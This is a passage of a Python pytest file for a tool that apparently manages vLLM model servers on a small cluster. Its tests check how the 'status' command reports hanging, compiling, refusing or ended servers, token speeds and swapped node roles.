        node: float(given["since"][1:]) for node, given in nodes.asked("read_units")
    }
    assert since["spark-1"] == pytest.approx(now - 60, abs=1)
    assert since["spark-1"] - since["spark-2"] == pytest.approx(3600, abs=20)


@pytest.mark.parametrize("noise", ["\x1b]0;title\x07", "\xff\n" * 100])
def test_what_a_login_prints_hides_no_answer(nodes, monkeypatch, noise):
    monkeypatch.setattr(remote, "_LIMITS", replace(remote._LIMITS, silence=30.0))
    nodes.lie({"spark-1": {"visible": (noise, "run")}})
    assert Remote("spark-1").call(str, visible, text="a\x1b") == "a\\x1b"


@pytest.mark.parametrize(
    ("faults", "why"), [({"silent": True}, "no token in the 1 s since"), ({}, "")]
)
def test_a_server_that_hangs_does_not_answer(nodes, tmp_path, capsys, faults, why):
    """The unit runs, `/health` answers, and no token comes."""
    with ModelServer(**faults) as server:
        group = json.dumps({"url": server.url})
        write_files(tmp_path / ".config/patchkit/vllm", {"group.json": group})
        found = ask_server(cluster="vllm", seconds=1)
    head = {"read_node_state": state(), "ask_server": (value(asdict(found)), "end")}
    nodes.lie({"spark-1": head, "spark-2": {"read_node_state": state(others=WORKER)}})
    code, said = ask(capsys, "status", "--json")
    assert code == (9 if why else 0)
    assert json.loads(said)["answers"] is not bool(why)
    assert why in (json.loads(said)["hangs"] or "")


def test_status_takes_a_compiler_for_work_as_the_watch_does(tmp_path, monkeypatch):
    """A step may take minutes: who asks would else be told to end what compiles."""
    monkeypatch.setenv("HOME", str(tmp_path))
    # The control group of this process, which listens, is that of the group's unit.
    unit = Path("/proc/self/cgroup").read_text().splitlines()[-1].rpartition("/")[2]
    settings = {"id": "1", "name": "vllm", "unit": unit, "frozen": 120}
    settings |= {"workers": {}, "watts": 0}
    compiler = shutil.copy("/bin/sleep", tmp_path / "cc1plus")
    marked = {"PATCHKIT_CLUSTER": "vllm"}
    with (
        ModelServer(silent=True) as server,
        subprocess.Popen([compiler, "60"], env=marked) as process,
    ):
        group = json.dumps({**settings, "url": server.url})
        write_files(tmp_path / ".config/patchkit/vllm", {"group.json": group})
        life = ask_server(cluster="vllm", seconds=1).life
        process.kill()
    assert life == ServerLife(WORKS, "cc1plus compiles")


NONE = "no sign of life for 21 s: 2 requests, and no step"
CONDITIONS = {  # what a token, and the watch, show → words of `status`, and none of it
    "compiles": (
        ServerLife(WORKS, "spark-2: ptxas compiles"),
        {},
        "works spark-1: spark-2: ptx",
    ),
    "is busy": (
        ServerLife(LIVES, "its counters move"),
        {},
        "busy spark-1: its counters move",
    ),
    "refuses": (
        ServerLife(REFUSES, "it refuses the question: HTTP 401"),
        *({}, "refuses spark-1: it refuses the question: HTTP 401"),
    ),
    "has ended": (
        ServerLife(ENDED, "nobody listens"),
        {},
        "ended spark-1: nobody listens",
    ),
    "hangs": (
        ServerLife(DOUBT, "no token"),
        {"text": f"doubt: {NONE}"},
        f"watch spark-1: {NONE}",
    ),
    "is unwatched": (
        ServerLife(ANSWERS, "a token came"),
        {"guard": "inactive"},
        "not watched spark-1: patchkit-vllm-alive.service is inactive",
    ),
}


@pytest.mark.parametrize("name", CONDITIONS)
def test_status_tells_a_server_that_works_from_one_that_hangs(nodes, capsys, name):
    life, watch, words = CONDITIONS[name]
    said = ServerAnswers(
        url="http://h", key="", strangers=(), health=PathAnswer(), life=life
    )
    head = {
        "read_node_state": state(**watch),
        "ask_server": (value(asdict(said)), "end"),
    }
    nodes.lie({"spark-1": head, "spark-2": {"read_node_state": state(others=WORKER)}})
    code, shown = ask(capsys, "status")
    assert code == 9
    assert words in " ".join(shown.split())
    assert ("hangs spark-1" in " ".join(shown.split())) == (name == "hangs")


BOUND = "; at most 52.3 for 2 at once, by the memory's bandwidth"
SPEEDS = {  # what a head says of its speed → what status shows
    "plain": (ServerSpeed(now=41.2, requests=1), "speed 41.2 tok/s now"),
    "bound": (
        ServerSpeed(now=41.2, requests=2, most=52.31),
        f"speed 41.2 tok/s now{BOUND}",
    ),
    "many drafts": (
        ServerSpeed(now=4, requests=1, accepted=0.62, drafted=3),
        "speed 4 tok/s now; 62 % of drafted tokens accepted",
    ),
    "few drafts": (
        ServerSpeed(now=4, requests=1, accepted=0.12, drafted=5),
        "note a step drafts and checks 5 tokens and keeps 0.6: it may be faster",
    ),
    "a lie": (
        ServerSpeed(now=1e308, requests=1e308, most=1e308, accepted=1e308, drafted=-1),
        "1e+308 tok/s now; at most 1e+308 for 1e+308 at once",
    ),
}


@pytest.mark.parametrize("name", SPEEDS)
def test_status_shows_the_speed(nodes, capsys, name):
    speed, words = SPEEDS[name]
    life = ServerLife(ANSWERS, "a token came")
    common = {"key": "", "strangers": (), "health": PathAnswer()}
    said = ServerAnswers(url="http://h", life=life, speed=speed, **common)
    head = {"read_node_state": state(), "ask_server": (value(asdict(said)), "end")}
    nodes.lie({"spark-1": head, "spark-2": {"read_node_state": state(others=WORKER)}})
    _code, shown = ask(capsys, "status")
    plain = " ".join(shown.split())
    assert words in plain
    assert ("without drafts" in plain) == (name == "few drafts")
    _code, text = ask(capsys, "status", "--json")
    assert json.loads(text)["server"]["speed"]["now"] == speed.now


def test_status_says_who_is_the_head_of_a_start_with_another_order(nodes, capsys):
    """The nodes changed places in cluster.toml: nothing hangs, and nothing is wrong there."""
    swapped = NAMES[::-1]
    elsewhere = {"kind": "HostError", "what": "this node's rank belongs to a server"}
    answer = f"{MARK}{json.dumps({'error': elsewhere})}\n"
    head = members_of(state(), *swapped)
    worker = members_of(state(others=WORKER), *swapped, model="org/m")
    nodes.lie(
        {
            "spark-1": {"read_node_state": head, "ask_server": (answer, "end")},
            "spark-2": {"read_node_state": worker},
        }
    )
    code, said = ask(capsys, "status")
    plain = " ".join(said.split())
    assert code == 9
    assert (
        "head spark-2 is the head of the running start, but cluster.toml lists" in plain
    )
    assert "not asked spark-1: this node's rank belongs to a server" in plain
    assert "hangs" not in plain
    assert "next: patchkit up org/m" in plain


def test_a_rank_of_another_head_is_not_asked_for_a_token(tmp_path, monkeypatch):
    """The nodes changed places in cluster.toml, and `up` was not called since."""
    monkeypatch.setenv("HOME", str(tmp_path))
    write_files(
        tmp_path / ".config/patchkit/vllm",
        {"group.json": '{"id": "a", "name": "vllm"}'},
    )
    with pytest.raises(HostError, match="belongs to a server on another node"):
        ask_server(cluster="vllm")
    with pytest.raises(HostError, match="nothing was started"):
        ask_server(cluster="other")
